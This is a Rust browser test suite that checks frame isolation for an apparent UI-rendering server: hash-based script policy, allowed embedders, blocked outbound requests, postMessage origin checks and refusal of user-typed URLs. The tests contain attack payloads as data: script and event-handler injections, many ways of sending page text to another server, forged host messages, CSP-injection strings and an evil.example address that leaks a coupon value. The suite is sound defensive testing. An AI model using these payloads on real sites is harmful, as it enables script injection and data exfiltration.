//! The protection of frames, as a browser enforces it: their code, embedders, network and messages.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use axum::Router;
use axum::response::{Html, IntoResponse as _};
use axum::routing::get;
use serde_json::{Value, json};

use crate::chromium::{Chromium, next_event};
use crate::contracts::{basket, basket_props};
use crate::elsewhere::{listener, serve};
use crate::world::World;

/// The frame the stage shows.
const FRAME: Option<&str> = Some("iframe");

#[tokio::test(flavor = "multi_thread")]
async fn a_frame_runs_only_code_that_fits_its_hash() {
    let Some(mut browser) = Chromium::start().await else {
        return;
    };
    let world = World::start().await;
    let shown = world.show(basket(), basket_props()).await;
    let token = shown.slice()["wsToken"].as_str().expect("a token");
    let frame = format!("/frame/{}?wsToken={token}", shown.session);
    let frame = world.send(world.get(&frame)).await;
    let html = frame.body.as_str().expect("a page").to_owned();
    let policy = frame.headers["content-security-policy"].clone();
    assert!(!policy.to_str().expect("text").contains("nonce"));

    // The same page with the same policy from another server: unchanged, and with one character
    // changed.
    let changed = html.replacen("proscenium-guest", "proscenium-ghost", 1);
    assert_ne!(changed, html);
    let page = |html: String| {
        let policy = policy.clone();
        get(async move || ([("content-security-policy", policy)], Html(html)).into_response())
    };
    let pages = Router::new()
        .route("/same", page(html))
        .route("/changed", page(changed));
    let elsewhere = serve(listener().await, pages).await;
    browser.open(&format!("http://{elsewhere}/same")).await;
    browser.see(None, ":is(th, td)", "Mug").await;
    browser.open(&format!("http://{elsewhere}/changed")).await;
    let drawn =
        "[document.querySelectorAll('main').length, document.querySelectorAll('script').length]";
    assert_eq!(browser.evaluate(None, drawn).await, json!([0, 2]));

    // In the frame itself, no script that is inserted into the page runs.
    browser.open(&world.stage_url()).await;
    browser.see(FRAME, ":is(th, td)", "Mug").await;
    let attempts = "(async () => { \
        const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more)); \
        add('script', {textContent: 'globalThis.ran = \"script\"'}); \
        add('script', {src: URL.createObjectURL(new Blob(['globalThis.ran = \"blob\"']))}); \
        add('script', {type: 'module', textContent: 'globalThis.ran = \"module\"'}); \
        add('div', {innerHTML: '<img src=data:, onerror=\"globalThis.ran = 1\"><svg onload=\"globalThis.ran = 2\">'}); \
        const link = Object.assign(document.createElement('a'), {href: 'javascript:void(globalThis.ran = \"link\")'}); \
        document.body.append(link); link.click(); \
        await import(URL.createObjectURL(new Blob(['globalThis.ran = \"import\"'], {type: 'text/javascript'}))).catch(() => {}); \
        await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))); \
        return globalThis.ran ?? null; })()";
    assert_eq!(browser.evaluate(FRAME, attempts).await, Value::Null);
}

#[tokio::test(flavor = "multi_thread")]
async fn renders_are_embedded_by_whom_the_configuration_names_and_the_stage_by_nobody() {
    let Some(mut browser) = Chromium::start().await else {
        return;
    };
    let shop = listener().await;
    let port = shop.local_addr().expect("its address").port();
    let world = World::start_with(|config| {
        config.server.embedders = format!("http://shop.example:{port}");
    })
    .await;
    let shown = world.show(basket(), basket_props()).await;
    let page = format!(
        "<!doctype html><title>Shop</title><iframe id=page src={viewer}></iframe>\
         <iframe id=frame src={viewer}/frame></iframe><iframe id=stage src={stage}></iframe>",
        viewer = shown.viewer_url(),
        stage = world.stage_url(),
    );
    serve(
        shop,
        Router::new().route("/", get(async move || Html(page))),
    )
    .await;

    browser.open(&format!("http://shop.example:{port}/")).await;
    browser.see(Some("#page"), ".s-one", "").await;
    browser.see(Some("#frame"), ":is(th, td)", "Mug").await;
    let mounted = "document.querySelectorAll('.s-page, main').length";
    let stage = Some("#stage");
    assert_eq!(browser.evaluate(stage, mounted).await, 0, "the stage");
    browser.open(&format!("http://evil.example:{port}/")).await;
    for frame in ["#page", "#frame", "#stage"] {
        assert_eq!(browser.evaluate(Some(frame), mounted).await, 0, "{frame}");
    }
    let reported = browser.problems().await.to_string();
    assert!(reported.contains("frame-ancestors"), "{reported}");
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_of_a_frame_reaches_a_server_that_is_not_its_own() {
    let Some(mut browser) = Chromium::start().await else {
        return;
    };
    let world = World::start().await;
    world.show(basket(), basket_props()).await;
    let asked = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&asked);
    let other = Router::new().fallback(async move || {
        counter.fetch_add(1, Ordering::SeqCst);
        [("access-control-allow-origin", "*")]
    });
    let other = serve(listener().await, other).await;
    browser.open(&world.stage_url()).await;
    browser.see(FRAME, ":is(th, td)", "Mug").await;
    let attempts = "(async () => { \
        const url = (way) => `http://OTHER/${way}?${document.querySelector('tbody th').innerText}`; \
        const add = (tag, more) => { const made = Object.assign(document.createElement(tag), more); document.body.append(made); return made; }; \
        const tried = [ \
          () => fetch(url('fetch'), {mode: 'no-cors'}), () => new WebSocket(url('socket').replace('http', 'ws')), \
          () => new EventSource(url('events')), () => navigator.sendBeacon(url('beacon'), 'x'), \
          () => new RTCPeerConnection({iceServers: [{urls: 'stun:OTHER'}]}).createOffer(), \
          () => add('img', {src: url('image')}), () => add('video', {src: url('video')}), () => add('iframe', {src: url('frame')}), \
          () => add('object', {data: url('object')}), () => add('script', {src: url('script')}), \
          () => add('link', {rel: 'stylesheet', href: url('sheet')}), () => add('link', {rel: 'prefetch', href: url('prefetch')}), \
          () => add('style', {textContent: `body { background: url(\"${url('css')}\") } @import \"${url('import')}\"; @font-face { font-family: x; src: url(\"${url('font')}\") } * { font-family: x }`}), \
          () => add('a', {href: url('link'), target: '_blank'}).click(), \
          () => add('a', {href: url('ping'), ping: url('pinged'), target: '_blank'}).click(), () => window.open(url('window')), \
          () => import(url('module')), () => { top.location = url('top'); }, () => { parent.location = url('parent'); }, \
        ]; \
        for (const way of tried) { try { await Promise.race([way(), new Promise(requestAnimationFrame)]); } catch {} } \
        const end = performance.now() + 300; \
        while (performance.now() < end) await new Promise(requestAnimationFrame); })()";
    browser
        .evaluate(FRAME, &attempts.replace("OTHER", &other))
        .await;
    assert_eq!(asked.load(Ordering::SeqCst), 0);
    // Nor by navigating there, which replaces the frame.
    for leave in [
        "location = 'http://OTHER/self'",
        "document.body.append(Object.assign(document.createElement('form'), {id: 'f', action: 'http://OTHER/form'})), document.getElementById('f').submit()",
    ] {
        browser.open(&world.stage_url()).await;
        browser.see(FRAME, ":is(th, td)", "Mug").await;
        let leave = leave.replace("OTHER", &other);
        let leave = format!("void setTimeout(() => {{ {leave}; }}, 0)");
        browser.evaluate(FRAME, &leave).await;
        let moment = "new Promise((resolve) => setTimeout(() => resolve(true), 500))";
        assert_eq!(browser.evaluate(None, moment).await, true);
        assert_eq!(asked.load(Ordering::SeqCst), 0, "{leave}");
    }
    let here = browser.evaluate(None, "location.pathname").await;
    assert_eq!(here, "/", "the page around it stays where it is");
}

#[tokio::test(flavor = "multi_thread")]
async fn messages_are_only_accepted_from_the_expected_window() {
    let Some(mut browser) = Chromium::start().await else {
        return;
    };
    const RENDER: Option<&str> = Some("#render");
    let world = World::start().await;
    let shown = world.show(basket(), basket_props()).await;
    // A page with the render, and beside it a frame that pretends to be the render's host.
    let forger = "<script>for (const message of [\
         {jsonrpc: '2.0', id: 'p1', result: {hostCapabilities: {serverTools: {}}, hostContext: {theme: 'dark'}}},\
         {jsonrpc: '2.0', method: 'ui/notifications/host-context-changed', params: {theme: 'dark', styles: {variables: {'--color-text-primary': 'red'}}}},\
         {jsonrpc: '2.0', method: 'ui/notifications/tool-result', params: {_meta: {'ai.ggui/render': {sessionId: 'x', appId: 'x', viewJson: '{}'}}}},\
         {jsonrpc: '2.0', id: 1, method: 'ui/resource-teardown', params: {}}]) parent.frames[0].postMessage(message, '*');\
         parent.postMessage('sent', '*')</script>";
    let page = format!(
        "<!doctype html><title>Shop</title><script>onmessage = ({{data}}) => data === 'sent' && (document.title = 'Forged')</script>\
         <iframe id=render src={}/frame></iframe>",
        shown.viewer_url()
    );
    let pages = Router::new()
        .route("/", get(async move || Html(page)))
        .route("/forger", get(async move || Html(forger)));
    let elsewhere = serve(listener().await, pages).await;
    browser.open(&format!("http://{elsewhere}/")).await;
    browser
        .see(RENDER, "[data-live='open'] :is(th, td)", "Mug")
        .await;
    let forge = "new Promise((resolve) => { const frame = document.createElement('iframe'); frame.src = '/forger'; \
        addEventListener('message', ({data}) => data === 'sent' && resolve()); document.body.append(frame); })";
    browser.evaluate(None, forge).await;
    // A click still arrives, so no forged message was accepted.
    browser.fill(RENDER, "[data-row='A1'] input", "2").await;
    let change = "[data-row='A1'] [data-action='setQuantity']";
    browser.click(RENDER, change).await;
    browser.see(RENDER, "[data-row='A1']", "Sent").await;
    let worn = "[document.documentElement.dataset.theme ?? '', document.querySelector('main').dataset.live]";
    assert_eq!(browser.evaluate(RENDER, worn).await, json!(["", "open"]));

    // The stage accepts messages about a frame only from that frame.
    browser.open(&world.stage_url()).await;
    browser
        .see(FRAME, "[data-live='open'] :is(th, td)", "Mug")
        .await;
    let spoken = "(() => { const before = document.querySelector('iframe').style.height; \
        for (const message of [{jsonrpc: '2.0', method: 'ui/notifications/size-changed', params: {height: 9000}}, \
          {type: 'ggui:observe', event: {kind: 'forged'}}, {type: 'ggui:bootstrap-failed', reason: 'X', message: 'forged'}]) postMessage(message, '*'); \
        return new Promise((resolve) => setTimeout(() => resolve([document.querySelector('iframe').style.height === before, \
          document.querySelectorAll(\"[data-kind='forged'], [data-failed='true']\").length]), 100)); })()";
    assert_eq!(browser.evaluate(None, spoken).await, json!([true, 0]));
}

#[tokio::test]
async fn a_frame_without_a_session_is_a_page_for_people_and_an_error_for_programs() {
    let world = World::start().await;
    let shown = world.show(basket(), basket_props()).await;
    let token = shown.slice()["wsToken"].as_str().expect("a token");
    let cut = &token[..token.len() - 1];
    let (_, own) = shown.viewer_url().split_at(world.url("").len());
    let session = &shown.session;
    for (path, status, word, reason) in [
        (
            "/r/abcdefgh12345678/frame".to_owned(),
            404,
            "NOT_FOUND",
            "SESSION_NOT_FOUND",
        ),
        (
            "/stage/frame/nowhere".to_owned(),
            404,
            "NOT_FOUND",
            "SESSION_NOT_FOUND",
        ),
        (
            format!("/frame/{session}?wsToken={cut}"),
            401,
            "UNAUTHORIZED",
            "AUTH_REJECTED",
        ),
    ] {
        let reported = world.send(world.get(&path)).await;
        assert_eq!(
            (reported.status, &reported.body["error"]["code"]),
            (status, &json!(word))
        );
        let browser = "text/html,application/xhtml+xml,*/*;q=0.8";
        let seen = world.send(world.get(&path).header("accept", browser)).await;
        assert_eq!(seen.status, status, "{path}");
        let html = seen.body.as_str().expect("a page");
        let failure = json!({"reason": reason, "message": reported.body["detail"]});
        let failure = format!("globalThis.__GGUI_FAILURE__ = {failure};");
        assert!(html.contains(&failure), "{failure}");
        assert!(!html.contains(session.as_str()), "nothing of the address");
        let policy = seen.headers["content-security-policy"]
            .to_str()
            .expect("text");
        assert!(policy.starts_with("sandbox allow-scripts"), "{policy}");
        assert!(policy.contains("frame-ancestors http://127.0.0.1:*"));
    }
    // An existing session is redirected to as usual.
    let own = format!("{own}/frame");
    assert_eq!(world.send(world.get(&own)).await.status, 303);
}

#[tokio::test]
async fn pages_and_their_code_travel_small_to_whoever_takes_them_so_and_what_is_streamed_as_it_is()
{
    let world = World::start().await;
    let shown = world.show(basket(), basket_props()).await;
    let token = shown.slice()["wsToken"].as_str().expect("a token");
    let frame = format!("/frame/{}?wsToken={token}", shown.session);
    for path in [
        "/",
        &frame,
        "/_ggui/iframe-runtime.js",
        "/stage/proscenium-stage.js",
    ] {
        let get = async |accepted: &'static str| {
            let request = world.get(path).header("accept-encoding", accepted);
            let response = request.send().await.expect("an answer");
            let header = |name: &str| {
                let value = response.headers().get(name);
                value.map(|value| value.to_str().expect("text").to_ascii_lowercase())
            };
            let (encoding, vary) = (header("content-encoding"), header("vary"));
            (encoding, vary, response.bytes().await.expect("a body"))
        };
        let (encoding, vary, whole) = get("identity").await;
        assert_eq!(encoding, None, "{path}");
        assert!(
            vary.is_some_and(|vary| vary.contains("accept-encoding")),
            "{path}"
        );
        let (encoding, _, gzip) = get("gzip").await;
        assert_eq!(encoding.as_deref(), Some("gzip"), "{path}");
        assert_eq!(gzip[..2], [0x1f, 0x8b], "{path}");
        let (encoding, _, brotli) = get("gzip, deflate, br, zstd").await;
        assert_eq!(encoding.as_deref(), Some("br"), "{path}");
        for small in [gzip, brotli] {
            assert!(small.len() * 5 < whole.len() * 2, "{path}: {}", small.len());
        }
    }
    let feed = world
        .get("/stage/feed")
        .header("accept-encoding", "br")
        .send()
        .await;
    assert!(
        !feed
            .expect("an answer")
            .headers()
            .contains_key("content-encoding")
    );
}

#[tokio::test]
async fn a_frame_and_its_host_may_load_pictures_from_the_named_hosts_and_from_nowhere_else() {
    let world = World::start().await;
    let text = || json!({"schema": {"type": "string"}, "required": true});
    let picture = json!({
        "schema": {"type": "string"}, "required": true,
        "example": "https://example.example/a.png",
    });
    let contract = json!({"propsSpec": {"properties": {
        "a": picture, "b": text(), "c": text(), "d": text(), "e": text(), "f": text(), "g": text(),
        "many": {"schema": {"type": "array", "items": {"type": "string"}}},
    }}});
    let props = json!({
        "a": "https://props.example:8443/a.png",
        "b": "https://a;connect-src",
        "c": "https://*",
        "d": "https://b.example, https://c.example",
        "e": "https://bücher.example/\u{1F600}",
        "f": "https://user@d.example/a",
        "g": "https://e.example;script-src 'unsafe-inline'",
    });
    let view = |url: Value| {
        json!({"components": [
            {"id": "root", "component": "Column", "children": ["picture", "other"]},
            {"id": "picture", "component": "Image", "url": url},
            {"id": "other", "component": "Image", "url": "https://view.example/logo.png"},
        ]})
    };
    let show = async |view: Value, props: &Value| {
        let draft = json!({"contract": contract, "view": view});
        let arguments = json!({"intent": "Pictures", "blueprintDraft": draft});
        let agreed = world.tool("ggui_handshake", arguments).await;
        let arguments = json!({"handshakeId": agreed["handshakeId"], "props": props});
        world.call("ggui_render", arguments).await
    };
    let policy_of = async |shown: &Value| {
        let slice = &shown["_meta"]["ai.ggui/render"];
        let (session, token) = (slice["sessionId"].as_str(), slice["wsToken"].as_str());
        let (session, token) = (session.expect("a session"), token.expect("a token"));
        let frame = world.send(world.get(&format!("/frame/{session}?wsToken={token}")));
        let frame = frame.await;
        assert!(
            frame
                .body
                .as_str()
                .expect("a page")
                .contains("<meta http-equiv=\"x-dns-prefetch-control\" content=\"off\">")
        );
        let policy = frame.headers["content-security-policy"].to_str();
        policy.expect("text").to_owned()
    };
    let expected = [
        "https://example.example",
        "https://props.example:8443",
        "https://view.example",
        "https://xn--bcher-kva.example",
    ];
    let shown = show(view(json!({"path": "/props/a"})), &props).await;
    let policy = policy_of(&shown).await;
    let images = format!("; img-src data: {}; ", expected.join(" "));
    assert!(policy.contains(&images), "{policy}");
    assert_eq!(policy.matches("connect-src").count(), 1, "{policy}");

    let uri = &shown["structuredContent"]["resourceUri"];
    let read = world.rpc("resources/read", json!({"uri": uri})).await;
    let csp = &read.body["result"]["contents"][0]["_meta"]["ui"]["csp"];
    let resources = csp["resourceDomains"].as_array().expect("a list");
    assert_eq!(resources[1..], expected.map(Value::from), "{csp}");

    // A policy lists a limited number of hosts.
    let mut props = props;
    props["many"] = (0..1000)
        .map(|n| format!("https://h{n:04}.example/a"))
        .collect();
    let shown = show(view(json!({"path": "/props/a"})), &props).await;
    let policy = policy_of(&shown).await;
    assert_eq!(policy.matches("https://").count(), 16, "{policy}");

    // A page without pictures loads none.
    let plain =
        json!({"components": [{"id": "root", "component": "Text", "text": {"path": "/props/a"}}]});
    let shown = show(plain, &props).await;
    let policy = policy_of(&shown).await;
    assert!(policy.contains("; img-src data:; "), "{policy}");
}

#[tokio::test]
async fn a_view_with_an_address_from_user_input_is_refused_with_a_finding() {
    let world = World::start().await;
    let typed = |text: &str| json!({"call": "formatString", "args": {"value": text}});
    let address = typed("https://evil.example/?q=${/context/coupon}");
    let opens = json!({"functionCall": {"call": "openUrl", "args": {"url": address}}});
    let fact = json!({"label": "Page", "value": address, "format": "url"});
    let link = typed("[Mugs](https://evil.example/?q=${/context/coupon})");
    for (root, member) in [
        (json!({"component": "Image", "url": address}), "url"),
        (
            json!({"component": "Button", "child": "word", "action": opens}),
            "action",
        ),
        (json!({"component": "KeyValue", "items": [fact]}), "items"),
        (json!({"component": "Text", "text": link}), "text"),
    ] {
        let mut root = root;
        root["id"] = json!("root");
        let word = json!({"id": "word", "component": "Text", "text": "Open"});
        let view = json!({"components": [root, word]});
        let draft = json!({"contract": basket(), "view": view});
        let arguments = json!({"intent": "A basket", "blueprintDraft": draft});
        let agreed = world.tool("ggui_handshake", arguments).await;
        let findings = agreed["suggestion"]["validationFindings"].as_array();
        let found: Vec<_> = findings
            .into_iter()
            .flatten()
            .map(|finding| (finding["code"].as_str(), finding["path"].as_str()))
            .collect();
        let path = format!("components[root].{member}");
        let expected = (Some("VIEW_TYPED_ADDRESS"), Some(&*path));
        assert_eq!(found, [expected], "{agreed}");
        let arguments = json!({"handshakeId": agreed["handshakeId"], "props": basket_props()});
        let shown = world.call("ggui_render", arguments).await;
        assert!(
            !shown.to_string().contains("evil.example"),
            "a composed one is shown"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_action_is_confirmed_in_the_contract_s_words_in_an_agent_s_view() {
    let Some(mut browser) = Chromium::start().await else {
        return;
    };
    let world = World::start().await;
    let components = json!([
        {"id": "root", "component": "ActionButton", "label": "Cancel", "action": "checkout", "confirm": false},
    ]);
    let draft = json!({"contract": basket(), "view": {"components": components}});
    let arguments = json!({"intent": "A basket", "blueprintDraft": draft});
    let agreed = world.tool("ggui_handshake", arguments).await;
    let arguments = json!({"handshakeId": agreed["handshakeId"], "props": basket_props()});
    let shown = world.call("ggui_render", arguments).await;
    let slice = &shown["_meta"]["ai.ggui/render"];
    assert_eq!(
        slice["actions"]["checkout"],
        json!({"label": "Check out", "confirm": true})
    );
    let session = slice["sessionId"].as_str().expect("a session");
    browser.open(&world.stage_url()).await;
    browser
        .see(FRAME, "[data-action='checkout']", "Cancel")
        .await;
    browser.click(FRAME, "[data-action='checkout']").await;
    browser.see(FRAME, "dialog[open] h2", "Check out").await;
    let peek = json!({"sessionId": session, "timeout": 0});
    let before = world.tool("ggui_consume", peek).await;
    assert_eq!(before["events"], json!([]), "{before}");
    browser.click(FRAME, "dialog[open] [data-confirm]").await;
    let event = next_event(&world, session).await;
    assert_eq!(event["intent"], "checkout");
}
